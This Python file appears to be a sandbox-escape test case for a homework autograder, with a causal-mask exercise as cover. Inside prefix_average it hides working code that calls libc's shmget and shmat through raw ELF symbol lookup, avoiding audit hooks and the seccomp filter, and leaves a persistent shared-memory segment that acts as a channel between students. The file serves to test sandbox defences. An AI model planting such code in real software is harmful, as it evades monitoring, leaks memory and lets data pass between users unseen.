# attack: leaves a System V shared-memory segment (64 MiB, every page touched, mode 666, a fixed key) that outlives its question and its grading run: shmget/shmat are not in the seccomp filter, and libc is called through a ctypes function pointer built from libc's load address (/proc/self/maps) plus the symbol's offset (its ELF .dynsym), so no ctypes.dlopen/dlsym audit event is raised; a later student with the same module (same run, other uid) finds the segment and reads the note (a channel between students); the same loop with IPC_PRIVATE keys leaks any amount of memory no process owns
# expect: module=q01_causal_mask status=crashed match=a forbidden system call
# path: sandbox
# checked after the run: no System V IPC object (/proc/sysvipc/) was left (reproduced: key 0x005ec7e7, owner 1879066082, 67108864 bytes, nattch 0 after grade returned; bob's q1 said 'a note left by an earlier question: left by pid 17890 uid 1879066082')
"""Question 1, written to leave a System V shared-memory segment behind for the next student."""
import ctypes
import os
import struct

import torch
from torch import Tensor

KEY, SIZE, IPC_CREAT = 0x5EC7E7, 64 << 20, 0o1000


def _libc() -> tuple[str, int]:
    for line in open("/proc/self/maps"):
        fields = line.split()
        if len(fields) >= 6 and os.path.basename(fields[5]).startswith("libc.so") and int(fields[2], 16) == 0:
            return fields[5], int(fields[0].split("-")[0], 16)
    raise OSError("libc not mapped")


def _symbol(path: str, wanted: bytes) -> int:
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for sh in sections:
        if sh[1] == 11:  # SHT_DYNSYM
            strtab = sections[sh[6]]
            for offset in range(sh[4], sh[4] + sh[5], 24):
                name, _info, _other, _shndx, value, _size = struct.unpack_from("<IBBHQQ", data, offset)
                start = strtab[4] + name
                if data[start:data.index(b"\0", start)] == wanted and value:
                    return value
    raise OSError(f"{wanted!r} not found")


def _function(name: str, restype: object, *argtypes: object) -> object:
    path, base = _libc()
    return ctypes.CFUNCTYPE(restype, *argtypes, use_errno=True)(base + _symbol(path, name.encode()))


def attack() -> None:
    shmget = _function("shmget", ctypes.c_int, ctypes.c_int, ctypes.c_size_t, ctypes.c_int)
    shmat = _function("shmat", ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
    shmdt = _function("shmdt", ctypes.c_int, ctypes.c_void_p)
    found = shmget(KEY, 0, 0)
    if found >= 0:
        address = shmat(found, None, 0)
        note = ctypes.string_at(address, 64).split(b"\0")[0].decode()
        shmdt(address)
        raise ValueError(f"a note left by an earlier question: {note}")
    made = shmget(KEY, SIZE, IPC_CREAT | 0o666)
    if made < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    address = shmat(made, None, 0)
    ctypes.memset(address, 1, SIZE)  # every page touched: memory that stays taken after this process is gone
    note = f"left by pid {os.getpid()} uid {os.getuid()}".encode()
    ctypes.memmove(address, note + b"\0", len(note) + 1)
    shmdt(address)


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    attack()
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """scores with -inf wherever mask is False, broadcast over leading dimensions."""
    return scores.masked_fill(~mask, float("-inf"))
